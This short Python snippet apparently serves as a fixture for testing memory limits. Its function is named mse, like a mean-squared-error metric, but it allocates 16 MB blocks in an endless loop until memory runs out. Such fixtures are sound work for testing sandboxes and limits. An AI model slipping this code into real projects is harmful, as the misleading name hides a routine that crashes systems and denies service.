# says: limit
# A list that grows for ever.
def mse(y_true, y_pred):
    blocks = []
    while True:
        blocks.append(bytearray(1 << 24))
